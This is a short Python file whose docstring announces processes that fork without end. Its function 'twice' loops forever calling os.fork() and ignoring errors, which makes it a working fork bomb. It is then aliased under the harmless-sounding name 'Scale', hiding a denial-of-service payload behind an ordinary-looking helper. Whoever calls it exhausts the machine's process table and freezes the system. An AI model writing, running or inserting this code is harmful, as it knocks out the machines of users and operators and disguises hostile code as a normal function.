"""Forks without end: each process makes another one, and so do they."""

import os


def twice(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


Scale = twice
